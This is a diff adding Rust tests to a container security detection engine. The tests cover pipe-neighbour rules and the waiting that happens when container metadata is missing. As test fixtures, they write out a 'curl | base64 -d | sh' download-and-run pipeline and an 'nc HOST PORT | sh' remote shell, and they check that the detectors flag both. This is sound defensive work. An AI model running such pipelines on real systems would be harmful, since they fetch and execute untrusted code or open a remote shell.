@@ -276,3 +276,401 @@ fn a_rule_cannot_redefine_a_built_in_category() {
         "{msg}"
     );
 }
+
+// Pipe neighbours (docs/rules.md "Pipe neighbours"): answered from the process table's pipe
+// index by inode.
+
+use ward_event::FdKind;
+
+const SEC: u64 = 1_000_000_000;
+
+fn rule_ids(f: &[Finding]) -> Vec<&str> {
+    let mut ids: Vec<&str> = f.iter().filter_map(|f| f.source_str("Rule_Id")).collect();
+    ids.sort();
+    ids
+}
+
+/// A shell (pid 500) in the container running `curl ... | base64 -d | sh`: curl 501 writes
+/// pipe 9001, base64 502 reads it and writes pipe 9002, sh 503 reads that. `order` gives the
+/// order of the three execs (pids); `exits` the pids that exit right after their exec.
+fn curl_base64_sh(order: &[u32], exits: &[u32], gap: u64) -> Vec<Event> {
+    let (p1, p2) = (fd(FdKind::Pipe, 9001), fd(FdKind::Pipe, 9002));
+    let log = fd(FdKind::Pipe, 600);
+    let mut ev = vec![in_c(
+        ExecBuilder::new(1, 500, 1, "/bin/bash")
+            .args(&[
+                "bash",
+                "-c",
+                "curl -s http://127.0.0.1:8080/p | base64 -d | sh",
+            ])
+            .stdio(1, log.clone()),
+    )
+    .event()];
+    let mut t = 10;
+    for pid in [501, 502, 503] {
+        ev.push(fork(t, pid, 500));
+        t += 1;
+    }
+    for &pid in order {
+        t += gap;
+        let b = match pid {
+            501 => ExecBuilder::new(t, 501, 500, "/usr/bin/curl")
+                .args(&["curl", "-s", "http://127.0.0.1:8080/p"])
+                .stdio(1, p1.clone()),
+            502 => ExecBuilder::new(t, 502, 500, "/usr/bin/base64")
+                .args(&["base64", "-d"])
+                .stdio(0, p1.clone())
+                .stdio(1, p2.clone()),
+            _ => ExecBuilder::new(t, 503, 500, "/bin/sh")
+                .binary_path("/usr/bin/dash")
+                .args(&["sh"])
+                .stdio(0, p2.clone())
+                .stdio(1, log.clone()),
+        };
+        ev.push(in_c(b).event());
+        if exits.contains(&pid) {
+            t += 1;
+            ev.push(exit(t, pid));
+        }
+    }
+    ev
+}
+
+const BOTH: [&str; 2] = ["PIPED_ENCODED_CODE_EXECUTION", "PIPED_ENCODED_DOWNLOAD"];
+
+#[test]
+fn curl_base64_sh_fires_both_piped_rules_in_any_exec_order() {
+    let orders: [[u32; 3]; 6] = [
+        [501, 502, 503],
+        [501, 503, 502],
+        [502, 501, 503],
+        [502, 503, 501],
+        [503, 501, 502],
+        [503, 502, 501],
+    ];
+    for order in orders {
+        let f = run_rules(shipped(), curl_base64_sh(&order, &[], 1));
+        assert_eq!(rule_ids(&f), BOTH, "exec order {order:?}");
+        for f in &f {
+            assert_eq!(f.count(), 1, "exec order {order:?}: {}", f.category);
+        }
+    }
+    // The evidence names the other end.
+    let f = run_rules(shipped(), curl_base64_sh(&[501, 502, 503], &[], 1));
+    let dl = f
+        .iter()
+        .find(|f| f.source_str("Rule_Id") == Some("PIPED_ENCODED_DOWNLOAD"))
+        .unwrap();
+    assert!(
+        dl.evidence().contains(&Evidence {
+            field: "stdin_writer.basename".into(),
+            value: "curl".into()
+        }),
+        "{:?}",
+        dl.evidence()
+    );
+    assert_eq!(dl.processes[0].pid, 502);
+}
+
+#[test]
+fn a_neighbour_that_exited_just_before_still_counts_and_a_long_gone_one_does_not() {
+    // curl finished (and base64 too) before the next member of the pipeline exec'd.
+    let f = run_rules(shipped(), curl_base64_sh(&[501, 502, 503], &[501, 502], 1));
+    assert_eq!(rule_ids(&f), BOTH);
+    // Seconds apart (beyond the grace): pipe inodes are not matched to a process long gone.
+    let f = run_rules(
+        shipped(),
+        curl_base64_sh(&[501, 502, 503], &[501, 502], 3 * SEC),
+    );
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+}
+
+#[test]
+fn pipe_look_alikes_stay_quiet() {
+    let (p1, p2) = (fd(FdKind::Pipe, 9101), fd(FdKind::Pipe, 9102));
+    let mut ev = vec![in_c(ExecBuilder::new(1, 500, 1, "/bin/bash").args(&["bash"])).event()];
+    // curl | jq, and cat file | base64 -d | tee key.pem.
+    ev.extend([
+        fork(2, 501, 500),
+        fork(3, 502, 500),
+        in_c(ExecBuilder::new(4, 501, 500, "/usr/bin/curl").args(&["curl", "-s", "http://m/t"]))
+            .stdio(1, p1.clone())
+            .event(),
+        in_c(ExecBuilder::new(5, 502, 500, "/usr/bin/jq").args(&["jq", ".token"]))
+            .stdio(0, p1.clone())
+            .event(),
+        fork(6, 503, 500),
+        fork(7, 504, 500),
+        fork(8, 505, 500),
+        in_c(ExecBuilder::new(9, 503, 500, "/usr/bin/cat").args(&["cat", "/run/cert.b64"]))
+            .stdio(1, p2.clone())
+            .event(),
+        in_c(ExecBuilder::new(10, 504, 500, "/usr/bin/base64").args(&["base64", "-d"]))
+            .stdio(0, p2.clone())
+            .stdio(1, fd(FdKind::Pipe, 9103))
+            .event(),
+        in_c(ExecBuilder::new(11, 505, 500, "/usr/bin/tee").args(&["tee", "/tmp/key.pem"]))
+            .stdio(0, fd(FdKind::Pipe, 9103))
+            .event(),
+    ]);
+    let f = run_rules(shipped(), ev);
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+}
+
+#[test]
+fn a_pipe_end_in_another_container_or_on_the_host_is_no_neighbour() {
+    // The same inode numbers on both sides, but curl is on the host: no pair.
+    let p1 = fd(FdKind::Pipe, 9201);
+    let ev = vec![
+        ExecBuilder::new(1, 700, 1, "/usr/bin/curl")
+            .args(&["curl", "-s", "http://x/p"])
+            .stdio(1, p1.clone())
+            .event(),
+        in_c(ExecBuilder::new(2, 701, 1, "/usr/bin/base64").args(&["base64", "-d"]))
+            .stdio(0, p1.clone())
+            .event(),
+    ];
+    let f = run_rules(shipped(), ev);
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+}
+
+#[test]
+fn a_forked_subshell_that_did_not_exec_is_no_neighbour() {
+    // `nc HOST PORT | while read l; do ...; done` typed into an interactive bash: the reader
+    // of nc's stdout is a fork of bash that never exec'd. Handing back the exec it inherited
+    // (`bash`, no arguments) would make this `nc | bash`.
+    let p = fd(FdKind::Pipe, 9301);
+    let ev = vec![
+        in_c(ExecBuilder::new(1, 500, 1, "/bin/bash").args(&["bash"])).event(),
+        fork(2, 501, 500),
+        fork(3, 502, 500),
+        dup(4, 502, 0, p.clone()),
+        in_c(ExecBuilder::new(5, 501, 500, "/usr/bin/nc").args(&["nc", "127.0.0.1", "9000"]))
+            .stdio(1, p.clone())
+            .event(),
+    ];
+    let f = run_rules(shipped(), ev.clone());
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+    // The same with the reader exec'ing a shell of its own: `nc ... | sh` fires.
+    let mut ev = ev;
+    ev.push(
+        in_c(ExecBuilder::new(6, 502, 500, "/bin/sh").args(&["sh"]))
+            .stdio(0, p)
+            .event(),
+    );
+    let f = run_rules(shipped(), ev);
+    assert_eq!(
+        rule_ids(&f),
+        vec!["NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER"]
+    );
+}
+
+#[test]
+fn the_pipe_index_is_kept_only_for_rules_that_ask() {
+    let mut engine = Engine::new(
+        &EngineConfig::default(),
+        &DetectorsConfig::default(),
+        Arc::new(IntelSet::new()),
+        None,
+    );
+    assert!(!engine.table().pipe_index_on());
+    engine.set_rules(Arc::new(own())).unwrap();
+    assert!(!engine.table().pipe_index_on(), "no rule of own() asks");
+    engine.set_rules(shipped()).unwrap();
+    assert!(engine.table().pipe_index_on());
+}
+
+// Missing container metadata with on_missing_metadata = "wait" (docs/rules.md "Missing
+// container metadata"): the engine holds the decision until a later exec of the container
+// brings the metadata, or alerts when none does within `[detectors.rules] metadata_wait`.
+
+const WAITING: &str = r#"
+[[rule]]
+id = "TEST_CURL_OUTSIDE_THE_TOOLS_IMAGE"
+category = "Test: Curl Outside The Tools Image"
+severity = "LOW"
+tactic = "EXECUTION"
+techniques = ["T1105"]
+description = "curl ran in a container that is not the tools image."
+next_steps = "Ask the owner."
+on_missing_metadata = "wait"
+[rule.when]
+basename = ["curl"]
+scope = "container"
+[[rule.exception]]
+reason = "the tools image runs curl by design"
+when = { image = { prefix = ["registry.example/tools:"] } }
+[[rule.test]]
+expect = "fire"
+exec = { exe = "/usr/bin/curl", image = "registry.example/web:1" }
+[[rule.test]]
+expect = "quiet"
+exec = { exe = "/usr/bin/curl", image = "registry.example/tools:3" }
+[[rule.test]]
+expect = "wait"
+exec = { exe = "/usr/bin/curl", metadata = false }
+"#;
+
+fn waiting_rules() -> Arc<RuleSet> {
+    Arc::new(
+        RuleSet::from_texts(&[(0, PathBuf::from("wait.toml"), WAITING.to_string())])
+            .expect("loads"),
+    )
+}
+
+const CID2: &str = "77aa7f0a1b2c3d4e5f60718293a4b5c6d7e8f90112233445566778899aabbcc0";
+
+fn engine_with(rules: Arc<RuleSet>) -> Engine {
+    let mut engine = Engine::new(
+        &EngineConfig::default(),
+        &DetectorsConfig::default(),
+        Arc::new(IntelSet::new()),
+        None,
+    );
+    engine.set_rules(rules).expect("categories register");
+    engine
+}
+
+/// curl in container CID2 whose metadata the enricher could not get (a note, no image).
+fn curl_without_metadata(t: u64, pid: u32) -> Event {
+    let mut e = ExecBuilder::new(t, pid, 1, "/usr/bin/curl")
+        .args(&["curl", "http://127.0.0.1/"])
+        .container(CID2, "", "")
+        .build();
+    if let Some(m) = e.container.as_mut() {
+        m.note = Some("metadata unavailable: timed out after 200 ms".into());
+    }
+    Event::Exec(Box::new(e))
+}
+
+fn any_exec_of(t: u64, pid: u32, image: &str) -> Event {
+    ExecBuilder::new(t, pid, 1, "/usr/bin/env")
+        .container(CID2, "app", image)
+        .event()
+}
+
+fn feed(engine: &mut Engine, events: Vec<Event>) -> Vec<FindingUpdate> {
+    let mut out = Vec::new();
+    for e in events {
+        engine.process(e, &mut out);
+    }
+    out
+}
+
+use crate::FindingUpdate;
+
+#[test]
+fn a_waiting_rule_is_decided_by_the_metadata_a_later_exec_brings() {
+    // The container turns out to be the tools image: the exception holds, nothing fires.
+    let mut engine = engine_with(waiting_rules());
+    let out = feed(&mut engine, vec![curl_without_metadata(SEC, 10)]);
+    assert!(out.is_empty(), "held, not fired");
+    assert_eq!(engine.rules_waiting(), 1);
+    let out = feed(
+        &mut engine,
+        vec![any_exec_of(SEC + 1000, 11, "registry.example/tools:3")],
+    );
+    assert!(out.is_empty());
+    assert_eq!(engine.rules_waiting(), 0);
+    // Nothing is left to fire on expiry or at the end.
+    let out = feed(&mut engine, vec![any_exec_of(10 * SEC, 12, "x")]);
+    assert!(out.is_empty());
+
+    // Another image: it fires, once, with the image in the finding and its evidence.
+    let mut engine = engine_with(waiting_rules());
+    let mut out = feed(
+        &mut engine,
+        vec![
+            curl_without_metadata(SEC, 10),
+            exit(SEC + 10, 10),
+            any_exec_of(SEC + 1000, 11, "registry.example/web:1"),
+        ],
+    );
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(engine.rules_waiting(), 0);
+    let f = out.remove(0).finding;
+    assert_eq!(f.category, "Test: Curl Outside The Tools Image");
+    // Built from the exec as judged: curl (gone from the table by now), in its container,
+    // with the metadata that arrived.
+    assert_eq!(f.processes[0].pid, 10);
+    assert_eq!(f.processes[0].name, "curl");
+    assert_eq!(f.source_str("Container_Id"), Some(CID2));
+    assert_eq!(
+        f.source_str("Container_Image_Uri"),
+        Some("registry.example/web:1")
+    );
+    assert!(f.description.contains("curl"), "{}", f.description);
+}
+
+#[test]
+fn a_waiting_rule_alerts_when_the_metadata_does_not_come_in_time() {
+    let mut engine = engine_with(waiting_rules());
+    let out = feed(
+        &mut engine,
+        vec![
+            curl_without_metadata(SEC, 10),
+            // Within the wait, events without the metadata (another container, a fork): held.
+            fork(SEC + 500_000_000, 20, 1),
+            curl_without_metadata(SEC + 600_000_000, 21),
+        ],
+    );
+    assert!(out.is_empty(), "{out:?}");
+    assert_eq!(engine.rules_waiting(), 2);
+    // Past the first deadline (2 s of event time): the first alerts, the second still waits.
+    let out = feed(&mut engine, vec![fork(3 * SEC + 1, 30, 1)]);
+    assert_eq!(out.len(), 1);
+    assert_eq!(engine.rules_waiting(), 1);
+    assert!(
+        out[0]
+            .finding
+            .evidence()
+            .iter()
+            .any(|e| e.field == "container_metadata" && e.value.starts_with(ward_rules::MISSING)),
+        "{:?}",
+        out[0].finding.evidence()
+    );
+    // The end of the stream decides the rest (alert).
+    let mut out = Vec::new();
+    engine.finish(&mut out);
+    assert_eq!(out.len(), 1);
+    assert_eq!(engine.rules_waiting(), 0);
+}
+
+#[test]
+fn plain_alert_rules_and_execs_with_metadata_do_not_wait() {
+    // Known image at exec: decided at once.
+    let mut engine = engine_with(waiting_rules());
+    let out = feed(
+        &mut engine,
+        vec![ExecBuilder::new(SEC, 10, 1, "/usr/bin/curl")
+            .container(CID2, "web", "registry.example/web:1")
+            .event()],
+    );
+    assert_eq!(out.len(), 1);
+    assert_eq!(engine.rules_waiting(), 0);
+    // The same rule with on_missing_metadata = "alert": fires at once without metadata.
+    let alert = WAITING
+        .replace("on_missing_metadata = \"wait\"\n", "")
+        .replace(
+        "[[rule.test]]\nexpect = \"wait\"\nexec = { exe = \"/usr/bin/curl\", metadata = false }\n",
+        "",
+    );
+    let set = RuleSet::from_texts(&[(0, PathBuf::from("alert.toml"), alert)]).expect("loads");
+    let mut engine = engine_with(Arc::new(set));
+    let out = feed(&mut engine, vec![curl_without_metadata(SEC, 10)]);
+    assert_eq!(out.len(), 1);
+    assert_eq!(engine.rules_waiting(), 0);
+}
+
+#[test]
+fn waiting_decisions_are_bounded() {
+    use super::MAX_WAITING;
+    let mut engine = engine_with(waiting_rules());
+    let events: Vec<Event> = (0..MAX_WAITING as u32 + 5)
+        .map(|i| curl_without_metadata(SEC + i as u64, 1000 + i))
+        .collect();
+    let out = feed(&mut engine, events);
+    assert_eq!(engine.rules_waiting(), MAX_WAITING);
+    // The 5 oldest alerted at once (one finding: same key, aggregated).
+    assert_eq!(out.len(), 5, "{}", out.len());
+}
